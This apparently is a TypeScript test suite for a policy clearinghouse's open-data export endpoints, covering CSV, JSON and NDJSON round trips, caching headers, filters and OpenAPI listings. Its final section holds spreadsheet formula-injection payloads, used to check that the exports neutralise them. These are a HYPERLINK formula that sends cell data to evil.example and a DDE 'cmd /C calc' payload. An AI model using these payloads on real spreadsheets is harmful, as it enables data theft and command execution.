import { readFileSync } from 'node:fs';
import { PassThrough } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp } from '../../../test/helpers/app.ts';
import {
  createPreparedDatabase,
  type DialectName,
  dialects,
  type TestDatabase,
} from '../../../test/helpers/databases.ts';
import type { Db } from '../../db/connect.ts';
import { createRecordWriter, type Format, readCsv } from '../practices/interchange-format.ts';
import type { PracticeRecord } from '../practices/practice.model.ts';
import {
  exportPractices,
  importPractices,
  setPracticeArchived,
} from '../practices/practice-interchange.service.ts';
import { DEMO_FILE } from '../system/demo-content.ts';
import { exportChunks, planExport } from './exports.service.ts';

const EDGE_FILE = new URL('../../../test/fixtures/practices-edge.json', import.meta.url).pathname;
const FIXTURES = [
  // Every second demo practice: each region, language and kind of record is there, at half the
  // cost of the whole collection in each round trip.
  ...(JSON.parse(readFileSync(DEMO_FILE, 'utf8')) as unknown[]).filter((_, i) => i % 2 === 0),
  ...(JSON.parse(readFileSync(EDGE_FILE, 'utf8')) as unknown[]),
];
const ARCHIVED = 'demo-morocco-national-immigration-asylum-strategy';
const LICENCE_LINK = '<https://creativecommons.org/licenses/by/4.0/>; rel="license"';
const FORMATS: Format[] = ['csv', 'json', 'ndjson'];

async function* values(records: unknown[]) {
  let number = 0;
  for (const value of records) yield { number: ++number, value };
}

/** What `clearinghouse export --format F` writes for the database. */
async function cliExport(db: Db, format: Format): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
  await exportPractices(db, createRecordWriter(format, out));
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

function ndjsonRecords(text: string): PracticeRecord[] {
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as PracticeRecord);
}

describe.each(dialects)('open-data exports on %s', (dialect: DialectName) => {
  let database: TestDatabase;
  let app: FastifyInstance;
  /** An empty database into which the CSV export was imported. */
  let target: TestDatabase;
  let targetApp: FastifyInstance;
  let firstCsv: string;

  beforeAll(async () => {
    database = await createPreparedDatabase(dialect);
    const report = await importPractices(database.db, values(FIXTURES));
    expect(report.problems).toEqual([]);
    const archived = await database.db
      .selectFrom('practices')
      .select('id')
      .where('external_id', '=', ARCHIVED)
      .executeTakeFirstOrThrow();
    await setPracticeArchived(database.db, archived.id, true);
    app = await buildTestApp(database);

    firstCsv = (await app.inject('/api/v1/exports/practices.csv')).body;
    target = await createPreparedDatabase(dialect);
    const imported = await importPractices(
      target.db,
      readCsv(PassThrough.from([Buffer.from(firstCsv)])),
    );
    expect(imported.problems).toEqual([]);
    expect(imported.created).toBe(FIXTURES.length - 1);
    targetApp = await buildTestApp(target);
  });
  afterAll(async () => {
    await targetApp.close();
    await target.drop();
    await app.close();
    await database.drop();
  });

  it('exports CSV that imports into an empty database and exports again byte for byte', async () => {
    const again = await targetApp.inject('/api/v1/exports/practices.csv');
    expect(again.statusCode).toBe(200);
    expect(again.body).toBe(firstCsv);
    expect(firstCsv.split('\n')[0]).toMatch(/^external_id,title,language,summary,type,country/);
  });

  it.each(FORMATS)(
    'writes %s exactly as the command line does, archived practices left out',
    async (format) => {
      const response = await app.inject(`/api/v1/exports/practices.${format}`);
      expect(response.statusCode).toBe(200);
      // The target holds what the CSV export held: every practice but the archived one.
      expect(response.body).toBe(await cliExport(target.db, format));
      expect(response.body).not.toContain(ARCHIVED);
      if (format === 'json') {
        const records = response.json() as PracticeRecord[];
        expect(records).toHaveLength(FIXTURES.length - 1);
      }
    },
  );

  it('states the licence, and is a cacheable attachment', async () => {
    const response = await app.inject('/api/v1/exports/practices.json');
    expect(response.headers.link).toBe(LICENCE_LINK);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="practices\.json"/,
    );
    expect(response.headers['cache-control']).toBe('public, no-cache');
    const etag = response.headers.etag as string;
    expect(etag).toMatch(/^W\/".+"$/);
    expect((await app.inject('/api/v1/exports/practices.csv')).headers['content-type']).toBe(
      'text/csv; charset=utf-8; header=present',
    );
    expect((await app.inject('/api/v1/exports/practices.ndjson')).headers['content-type']).toBe(
      'application/x-ndjson; charset=utf-8',
    );

    const again = await app.inject({
      url: '/api/v1/exports/practices.json',
      headers: { 'if-none-match': etag },
    });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    // Another selection or format has another validator.
    const other = await app.inject('/api/v1/exports/practices.json?theme=housing');
    expect(other.headers.etag).not.toBe(etag);
    // A change to published content changes it.
    await importPractices(
      database.db,
      values([{ ...(FIXTURES[1] as object), summary: 'A changed summary.' }]),
    );
    const changed = await app.inject({
      url: '/api/v1/exports/practices.json',
      headers: { 'if-none-match': etag },
    });
    expect(changed.statusCode).toBe(200);
    expect(changed.headers.etag).not.toBe(etag);
    expect(changed.body).toContain('A changed summary.');
    await importPractices(database.db, values([FIXTURES[1]]));
  });

  it('exports the practices a filter selects, in id order, as the search counts them', async () => {
    const response = await app.inject('/api/v1/exports/practices.json?theme=employment&region=019');
    expect(response.statusCode).toBe(200);
    const records = response.json() as PracticeRecord[];
    const searched = (
      await app.inject('/api/v1/search?theme=employment&region=019&per_page=100')
    ).json() as { total: number; results: { slug: string }[] };
    expect(records.length).toBe(searched.total);
    expect(records.length).toBeGreaterThan(0);
    for (const record of records) expect(record.themes).toContain('employment');
    const rows = await database.db
      .selectFrom('practices')
      .select(['external_id', 'slug'])
      .where(
        'slug',
        'in',
        searched.results.map((r) => r.slug),
      )
      .orderBy('id')
      .execute();
    expect(records.map((r) => r.external_id)).toEqual(rows.map((r) => r.external_id));
  });

  it('exports a search in the order of the search when asked', async () => {
    const q = encodeURIComponent('housing refugees');
    const response = await app.inject(`/api/v1/exports/practices.ndjson?q=${q}&sort=relevance`);
    expect(response.statusCode).toBe(200);
    const records = ndjsonRecords(response.body);
    const searched = (
      await app.inject(`/api/v1/search?q=${q}&per_page=100&sort=relevance`)
    ).json() as { total: number; results: { slug: string }[] };
    expect(records.length).toBe(searched.total);
    const bySlug = new Map(
      (await database.db.selectFrom('practices').select(['slug', 'external_id']).execute()).map(
        (r) => [r.slug, r.external_id],
      ),
    );
    expect(records.map((r) => r.external_id)).toEqual(
      searched.results.map((r) => bySlug.get(r.slug)),
    );
    // By default the same practices come in id order.
    const byId = ndjsonRecords((await app.inject(`/api/v1/exports/practices.ndjson?q=${q}`)).body);
    expect(new Set(byId.map((r) => r.external_id))).toEqual(
      new Set(records.map((r) => r.external_id)),
    );
  });

  it('writes a header row even when nothing matches', async () => {
    const response = await app.inject('/api/v1/exports/practices.csv?q=zzzqqqxxyy');
    expect(response.statusCode).toBe(200);
    expect(response.body).toMatch(/^external_id,title,[^\n]*\n$/);
    expect((await app.inject('/api/v1/exports/practices.json?q=zzzqqqxxyy')).body).toBe('[]\n');
  });

  it('refuses an unknown filter value or parameter with a problem naming it', async () => {
    const unknown = await app.inject('/api/v1/exports/practices.csv?theme=no-such-theme');
    expect(unknown.statusCode).toBe(400);
    expect(unknown.headers['content-type']).toBe('application/problem+json; charset=utf-8');
    expect(unknown.json().errors).toEqual([
      { field: 'theme', message: 'unknown value "no-such-theme"' },
    ]);
    const misspelt = await app.inject('/api/v1/exports/practices.csv?theem=housing');
    expect(misspelt.statusCode).toBe(400);
    expect(misspelt.json().errors[0].field).toBe('theem');
    const order = await app.inject('/api/v1/exports/practices.csv?sort=title');
    expect(order.statusCode).toBe(400);
  });

  it('gives the same bytes whatever the batch size', async () => {
    for (const format of FORMATS) {
      const plan = await planExport(database.db, {
        q: '',
        filters: { ...emptyFilters(), theme: ['access-to-services'] },
        order: 'id',
      });
      const collect = async (batchSize: number) => {
        const chunks: Buffer[] = [];
        for await (const chunk of exportChunks(database.db, plan, format, { batchSize }))
          chunks.push(chunk);
        return Buffer.concat(chunks).toString('utf8');
      };
      const whole = await collect(1000);
      expect(await collect(1)).toBe(whole);
      expect(await collect(7)).toBe(whole);
      const all = await planExport(database.db, { q: '', filters: emptyFilters(), order: 'id' });
      expect(all).toEqual({ kind: 'all' });
    }
  });

  it('gives every translation its status and the date it was written, and the CSV carries them too', async () => {
    const json = (await app.inject('/api/v1/exports/practices.json')).json() as PracticeRecord[];
    const edge = json.find((r) => r.external_id === 'edge-1');
    expect(Object.keys(edge?.translations ?? {}).sort()).toEqual(['ar', 'en']);
    for (const record of json) {
      for (const translation of Object.values(record.translations)) {
        expect(translation.status).toBe('translation');
        expect(translation.translated_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      }
    }
    const [header, ...rows] = parseCsv(firstCsv) as string[][];
    const column = header?.indexOf('translations') ?? -1;
    const edgeRow = rows.find((row) => row[0] === 'edge-1');
    expect(JSON.parse(edgeRow?.[column] ?? '{}')).toEqual(edge?.translations);

    const doc = (await app.inject('/openapi.json')).json() as {
      paths: Record<string, { get: { responses: Record<string, unknown> } }>;
    };
    const body = JSON.stringify(doc.paths['/api/v1/exports/practices.json']?.get.responses['200']);
    expect(body).toContain('machine_translation_reviewed');
    expect(body).toContain('translated_at');
  });

  it('lists the three exports in the OpenAPI document', async () => {
    const doc = (await app.inject('/openapi.json')).json() as {
      paths: Record<
        string,
        { get: { tags: string[]; responses: Record<string, { content?: object }> } }
      >;
    };
    const types: Record<Format, string> = {
      csv: 'text/csv',
      json: 'application/json',
      ndjson: 'application/x-ndjson',
    };
    for (const format of FORMATS) {
      const operation = doc.paths[`/api/v1/exports/practices.${format}`]?.get;
      expect(operation?.tags).toEqual(['exports']);
      expect(Object.keys(operation?.responses['200']?.content ?? {})).toEqual([types[format]]);
      expect(operation?.responses['304']).toBeDefined();
    }
  });
});

/** Cells a spreadsheet would run as formulas, in text fields of every kind. */
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open report")';
const FORMULA_RECORD = {
  external_id: 'formula-1',
  title: FORMULA_TITLE,
  language: 'en',
  summary: "+cmd|' /C calc'!A0 and more words to make a summary",
  country: 'FR',
  city: 'Lyon',
  themes: ['employment'],
  start_year: 2019,
  organisations: [{ name: '@SUM(A1:A9)', role: 'lead' }],
  sections: { context: '-2+3 is what the context says', objectives: "'=1+1 quoted already" },
  evidence_level: 'not-evaluated',
};

describe.each(dialects)('CSV exports opened in a spreadsheet on %s', (dialect: DialectName) => {
  let database: TestDatabase;
  let app: FastifyInstance;

  beforeAll(async () => {
    database = await createPreparedDatabase(dialect);
    const report = await importPractices(database.db, values([FORMULA_RECORD]));
    expect(report.problems).toEqual([]);
    app = await buildTestApp(database);
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  it('puts an apostrophe before every cell that would run as a formula, and imports it back as published', async () => {
    const stored = await database.db
      .selectFrom('practices')
      .select('title')
      .where('external_id', '=', 'formula-1')
      .executeTakeFirstOrThrow();
    expect(stored.title).toBe(FORMULA_TITLE);

    const response = await app.inject('/api/v1/exports/practices.csv');
    expect(response.statusCode).toBe(200);
    // Quoted as CSV: the comma and the doubled quotes inside, the apostrophe first.
    expect(response.body).toContain(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open report"")"`,
    );
    expect(response.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const [row] = parseCsv(response.body, { columns: true }) as Record<string, string>[];
    expect(row?.title).toBe(`'${FORMULA_TITLE}`);
    expect(row?.summary).toBe(`'${FORMULA_RECORD.summary}`);
    expect(row?.organisations).toBe("'@SUM(A1:A9)||lead");
    expect(row?.['sections.context']).toBe("'-2+3 is what the context says");
    expect(row?.['sections.objectives']).toBe("''=1+1 quoted already");
    // Numbers the export writes itself stay numbers; the other formats hold the text unchanged.
    expect(row?.start_year).toBe('2019');
    const json = (await app.inject('/api/v1/exports/practices.json')).json() as PracticeRecord[];
    expect(json[0]?.title).toBe(FORMULA_TITLE);

    // Read back, the cells are the text that was published.
    const target = await createPreparedDatabase(dialect);
    try {
      const imported = await importPractices(
        target.db,
        readCsv(PassThrough.from([Buffer.from(response.body)])),
      );
      expect(imported.problems).toEqual([]);
      const [record] = ndjsonRecords(await cliExport(target.db, 'ndjson'));
      expect(record).toMatchObject({
        title: FORMULA_TITLE,
        summary: FORMULA_RECORD.summary,
        organisations: [{ name: '@SUM(A1:A9)', role: 'lead' }],
        sections: FORMULA_RECORD.sections,
      });
      expect(await cliExport(target.db, 'csv')).toBe(response.body);
    } finally {
      await target.drop();
    }
  });
});

function emptyFilters() {
  return {
    policy_area: [],
    theme: [],
    type: [],
    target_group: [],
    actor_type: [],
    region: [],
    country: [],
    evidence: [],
    status: [],
    decade: [],
    peer_reviewed: [],
  } as Record<
    | 'policy_area'
    | 'theme'
    | 'type'
    | 'target_group'
    | 'actor_type'
    | 'region'
    | 'country'
    | 'evidence'
    | 'status'
    | 'decade'
    | 'peer_reviewed',
    string[]
  >;
}
